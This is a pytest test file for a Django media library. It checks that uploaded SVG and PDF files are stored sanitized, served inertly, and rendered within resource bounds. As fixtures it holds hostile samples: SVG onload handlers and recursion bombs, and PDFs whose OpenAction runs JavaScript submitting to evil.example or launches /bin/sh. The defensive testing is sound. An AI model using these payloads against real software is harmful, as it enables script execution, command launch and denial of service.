"""SVG and PDF: stored harmless, served harmless, and resized within bounds."""

from __future__ import annotations

import io
import time
from dataclasses import replace
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.forms import modelform_factory
from django.test import Client, override_settings
from django.test.utils import isolate_apps
from PIL import Image

from shift_media.core.errors import InvalidSpec, NoSuchPage, SourceError
from shift_media.core.rasters import RASTER_SIDE
from shift_media.fields import MediaField
from shift_media.sandbox import documents
from shift_media.validators import FileRules, InvalidMedia, inspect
from tests.direct.steps import put, request_of, ticket
from tests.fields.conftest import media, use
from tests.fields.material import PDF, SVG
from tests.imaging import images
from tests.parts import package
from tests.sandbox.pdf import ENCRYPTED, pdf
from tests.sandbox.test_svg_worker import ACTIVE, OPEN, OUTSIDE, bomb
from tests.testapp.models import Attachment, Drawing, Photo

package("py_svg_hush", "svg")
package("resvg_py", "svg")
package("pypdfium2", "pdf")

__all__ = ["media", "use"]  # fixtures

pytestmark = [
    pytest.mark.acceptance(74),
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("media"),
]

SQUARE = (
    f'{OPEN} viewBox="0 0 40 20"><rect width="20" height="20" fill="#00f"/>'
    '<rect x="20" width="20" height="20" fill="#f00"/></svg>'
).encode()


def upload(content: bytes, name: str = "drawing.svg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, "image/svg+xml")


def get(url: str) -> tuple[Any, bytes]:
    response: Any = Client().get(url)
    return response, b"".join(response) if response.streaming else response.content


def picture(resize: Any) -> Image.Image:
    response, content = get(resize.url)
    assert response.status_code == 200, content
    return Image.open(io.BytesIO(content))


def is_blue_and_red(image: Image.Image) -> bool:
    rgb = image.convert("RGB")
    middle = rgb.height // 2
    blue, red = rgb.getpixel((2, middle)), rgb.getpixel((rgb.width - 3, middle))
    assert isinstance(blue, tuple)
    assert isinstance(red, tuple)
    return blue[2] > 240 > 15 > blue[0] and red[0] > 240 > 15 > red[2]


# Drawings


@pytest.mark.slow
def test_drawing_is_stored_sanitized_and_described() -> None:
    hostile = f'{OPEN} width="48" height="24" onload="x()">{"".join(ACTIVE + OUTSIDE)}</svg>'
    row = Drawing.objects.create(image=upload(hostile.encode()))
    response, content = get(row.image.url)
    assert response["Content-Type"] == "image/svg+xml"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "Content-Disposition" not in response
    for word in (b"onload", b"script", b"evil", b"alert", b"foreignObject"):
        assert word not in content
    known = Drawing.objects.get().image.metadata
    assert (known.content_type, known.width, known.height) == ("image/svg+xml", 48, 24)
    assert (known.size, known.has_alpha, known.pages) == (len(content), True, None)
    assert known.sha256 == inspect(ContentFile(content), accept=["image/svg+xml"]).metadata.sha256


@pytest.mark.parametrize(("accept", "name"), [(["*/*"], "XML"), (["application/xml"], "XML")])
def test_drawing_is_xml_where_its_type_is_not_named(accept: list[str], name: str) -> None:
    inspection = inspect(upload(SVG), accept=accept)
    assert (inspection.format.name, inspection.replacement) == (name, b"")
    row = Attachment.objects.create(file=upload(SVG))
    response, content = get(row.file.url)
    assert content == SVG
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="drawing.xml"'


def test_drawing_is_refused_by_wildcard_of_images() -> None:
    for accept in (["image/*"], ["image/png"]):
        with pytest.raises(InvalidMedia) as caught:
            inspect(upload(SQUARE), accept=accept)
        assert caught.value.code == "unsupported_type"
    with pytest.raises(InvalidMedia):
        Photo.objects.create(image=upload(SQUARE))


@pytest.mark.slow
def test_resize_of_drawing_is_a_sharp_picture_of_the_size_that_was_said() -> None:
    row = Drawing.objects.create(image=upload(SQUARE))
    for size, options, expected in (
        ("400x", {}, (400, 200)),
        ("x31", {"format": "webp"}, (62, 31)),
        ("100x100", {"mode": "fill"}, (100, 100)),
        ("90x90", {"mode": "pad", "background": "00ff00", "format": "jpg"}, (90, 90)),
        ("50x50", {"crop": (0, 0, RASTER_SIDE, RASTER_SIDE // 2)}, (50, 25)),
        ("10x300", {"mode": "stretch"}, (10, 300)),
    ):
        resize = row.image.resize(size, **options)
        assert (resize.width, resize.height) == expected
        made = picture(resize)
        assert made.size == expected
        assert is_blue_and_red(made) or "pad" in options.values()
    assert row.image.resize("400x").spec.format == "png"
    assert list(row.image.srcset([320, 640]).split(", ")[1].split()[1:]) == ["640w"]


@pytest.mark.slow
def test_drawing_is_transparent_where_it_draws_nothing() -> None:
    row = Drawing.objects.create(image=upload(f'{OPEN} viewBox="0 0 9 9"><g/></svg>'.encode()))
    assert picture(row.image.resize("9x")).convert("RGBA").getpixel((4, 4)) == (0, 0, 0, 0)


HOSTILE = {
    "use": bomb(9, 10, '<use href="#a{}"/>'),
    "pattern": bomb(9, 10, '<rect width="9" height="9" fill="url(#a{})"/>'),
    "deep": "<g>" * 5000 + "</g>" * 5000,
    "filter": '<filter id="f" x="-1e6" y="-1e6" width="1e7" height="1e7"><feGaussianBlur '
    'stdDeviation="9999"/></filter><rect width="5" height="5" filter="url(#f)"/>',
    "huge": '<rect width="1e30" height="1e30" stroke-width="1e30" stroke-dasharray=".001"/>',
    "long": f'<path d="{"M0 0L1 1" * 100_000}"/>',
}


@pytest.mark.slow
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_drawing_is_refused_or_drawn_within_bounds(name: str) -> None:
    content = f'{OPEN} width="50000" height="50000">{HOSTILE[name]}</svg>'.encode()
    began = time.monotonic()
    form = modelform_factory(Drawing, fields=["image"])({}, {"image": upload(content)})
    if form.is_valid():
        assert get(form.save().image.resize("200x").url)[0].status_code in (200, 422)
    else:
        assert form.errors.as_data()["image"][0].code in ("too_complex", "undecodable")
    assert time.monotonic() - began < 3 * documents.PAGE_BOUNDS.seconds


@pytest.mark.parametrize("content", [SQUARE[:60], b"<svg>", b"<?xml version='1.0'?><svg><a>"])
def test_damaged_drawing_is_an_error_of_the_form(content: bytes) -> None:
    form = modelform_factory(Drawing, fields=["image"])({}, {"image": upload(content)})
    assert not form.is_valid()
    assert form.errors.as_data()["image"][0].code == "undecodable"


def test_drawing_of_too_many_bytes_is_too_complex(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "MAX_DRAWING_BYTES", 100)
    with pytest.raises(InvalidMedia) as caught:
        Drawing.objects.create(image=upload(SQUARE + b" " * 100))
    assert caught.value.code == "too_complex"


@pytest.mark.slow
def test_drawing_of_direct_upload_is_staged_inert_and_stored_sanitized() -> None:
    content = SVG.replace(b"</svg>", b'<rect width="5" height="5"/></svg>')
    uploads = {"testapp.drawing.image": "tests.validators.test_field_rules.anybody"}
    with override_settings(SHIFT_MEDIA={"UPLOADS": uploads}):
        client = Client()
        label = {"field": "testapp.Drawing.image", "name": "a.svg", "type": "image/svg+xml"}
        given = ticket(client, content, **label)
        assert put(client, given, content).status_code == 204
        from shift_media.direct import files

        request = request_of(client, given["ticket"])
        form = modelform_factory(Drawing, fields=["image"])(request.POST, files(request))
        assert form.is_valid(), form.errors
        row = form.save()
    _response, stored = get(row.image.url)
    assert b"script" not in stored
    assert b"<rect" in stored


@pytest.mark.slow
def test_drawing_has_no_pages() -> None:
    row = Drawing.objects.create(image=upload(SQUARE))
    with pytest.raises(InvalidSpec, match="has no pages"):
        row.image.resize("9x", page=2)


@pytest.mark.slow
@pytest.mark.parametrize("turn", [{"rotate": 90}, {"rotate": 180, "flip": "h"}])
def test_drawing_can_be_turned(turn: dict[str, Any]) -> None:
    row = Drawing.objects.create(image=upload(SQUARE))
    resize = row.image.resize("100x", **turn)
    size = (100, 200) if turn["rotate"] == 90 else (100, 50)
    assert (resize.width, resize.height) == size
    made = picture(resize).convert("RGB")
    assert made.size == size
    first = made.getpixel((50, 5))
    assert isinstance(first, tuple)
    assert first[2] > 240 or turn["rotate"] == 180


# Documents


def attach(content: bytes) -> Attachment:
    return Attachment.objects.create(file=upload(content, "paper.pdf"))


@pytest.mark.slow
def test_document_is_described_and_stored_as_it_is() -> None:
    row = attach(pdf(3))
    known = Attachment.objects.get().file.metadata
    assert (known.pages, known.width, known.height) == (3, 800, 1123)
    assert known.placeholder.startswith("data:")
    response, content = get(row.file.url)
    assert content == pdf(3)
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")


@pytest.mark.slow
def test_resize_of_document_is_its_first_page_on_white() -> None:
    row = attach(pdf(2))
    resize = row.file.resize("400x")
    assert (resize.width, resize.height, resize.spec.format) == (400, 561, "jpg")
    made = picture(resize)
    assert (made.size, made.format) == ((400, 561), "JPEG")
    assert is_blue_and_red(made)
    blank = attach(pdf(content=b""))
    assert picture(blank.file.resize("9x", format="png")).convert("RGB").getpixel((4, 4)) == (
        255,
        255,
        255,
    )


SCRIPTS = b"<</S/JavaScript/JS(app.alert(1);this.submitForm('http://evil.example'))>>"
_RESOURCES = b"/Resources<</XObject<</X %d 0 R>>>>"
_FORM = (
    b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]" + _RESOURCES % 5 + b"/Length 12>>"
    b"stream\n/X Do /X Do \nendstream"
)
"""A drawing that draws itself twice, and so on."""

DOCUMENTS = {
    "scripts": pdf(catalog=b"/OpenAction" + SCRIPTS, page=b"/AA<</O" + SCRIPTS + b">>"),
    "launch": pdf(catalog=b"/OpenAction<</S/Launch/F(/bin/sh)>>"),
    "remote": pdf(catalog=b"/OpenAction<</S/URI/URI(http://evil.example)>>"),
    "many": pdf(100_000),
    "huge": pdf(box=(0, 0, 1e9, 1e9)),
    "thin": pdf(box=(0, 0, 1e9, 0.0001)),
    "inverted": pdf(box=(600, 842, -600, -842)),
    "empty": pdf(box=(0, 0, 0, 0)),
    "unit": pdf(page=b"/UserUnit 75000"),
    "encrypted": ENCRYPTED,
    "cut": pdf()[:200],
    "header": PDF,
    "form": pdf(content=b"/X Do " * 50, page=_RESOURCES % 5, more=(_FORM,)),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", DOCUMENTS)
def test_hostile_document_is_refused_or_drawn_within_bounds(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if name == "form":  # It takes all the time that it may have.
        tight = replace(documents.PAGE_BOUNDS, cpu_seconds=1)
        monkeypatch.setattr(documents, "PAGE_BOUNDS", tight)
    began = time.monotonic()
    row = attach(DOCUMENTS[name])
    response, content = get(row.file.resize("200x").url)
    if name in ("encrypted", "cut", "header"):
        assert response.status_code == 422
        assert response.json()["code"] == ("encrypted" if name == "encrypted" else "undecodable")
    elif name != "form" or response.status_code != 422:
        assert response.status_code == 200
        assert Image.open(io.BytesIO(content)).size[0] == 200
    assert time.monotonic() - began < 3 * documents.PAGE_BOUNDS.seconds


@pytest.mark.slow
@pytest.mark.parametrize("code", ["encrypted", "undecodable"])
def test_document_that_cannot_be_read_breaks_a_rule_about_pages(code: str) -> None:
    content = ENCRYPTED if code == "encrypted" else pdf()[:200]
    assert attach(content).file.metadata.pages is None
    with pytest.raises(InvalidMedia) as caught:
        inspect(upload(content), accept=["application/pdf"], rules=FileRules(pages=5))
    assert caught.value.code == "unknown_fact"


def test_worker_that_exceeds_its_limits_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    tight = replace(documents.PAGE_BOUNDS, memory_bytes=60 << 20)
    monkeypatch.setattr(documents, "PAGE_BOUNDS", tight)
    with pytest.raises(SourceError):
        documents.draw(io.BytesIO(pdf()), "pdf", side=4096)


# Without the extras


@pytest.mark.slow
def test_resize_on_a_machine_without_the_package_is_a_422(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    url = attach(pdf()).file.resize("400x").url
    monkeypatch.setattr(documents, "find_spec", lambda name: None)
    response, content = get(url)
    assert response.status_code == 422
    assert b"unsupported_type" in content
    assert "django-shift-media[pdf]" in caplog.text


def test_missing_package_is_named_by_check_and_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "find_spec", lambda name: None)
    with isolate_apps("tests.testapp"):

        class Wrong(models.Model):  # noqa: DJ008
            image = MediaField(accept=["image/svg+xml"], metadata_field="meta")
            paper = MediaField(accept=["application/pdf"], metadata_field="other", pages=2)
            meta = models.JSONField(default=dict)
            other = models.JSONField(default=dict)

            class Meta:
                app_label = "testapp"

        messages = Wrong.check()
    assert [message.id for message in messages] == ["shift_media.E115", "shift_media.W104"]
    assert "py-svg-hush is not installed" in messages[0].msg
    row = attach(pdf())
    assert row.file.metadata.pages is None
    with pytest.raises(InvalidSpec, match=r"django-shift-media\[pdf\]"):
        row.file.resize("401x").url  # noqa: B018


@pytest.mark.slow
def test_resize_of_a_page_is_that_page_or_an_error() -> None:
    row = attach(pdf(2))
    second = row.file.resize("300x", page=2)
    assert second.size is None  # The metadata have the size of the first page.
    assert second.ensure()
    first = row.file.resize("300x")
    assert first.ensure()
    with row.file.storage.open(second.key) as one, row.file.storage.open(first.key) as two:
        assert images.opened(one.read()).tobytes() == images.opened(two.read()).tobytes()
    with pytest.raises(NoSuchPage):
        row.file.resize("300x", page=3).ensure()
    turned = row.file.resize("300x", page=2, rotate=90, gray=True)
    assert turned.ensure()
    with row.file.storage.open(turned.key) as file:
        assert images.opened(file.read()).size == (300, 214)
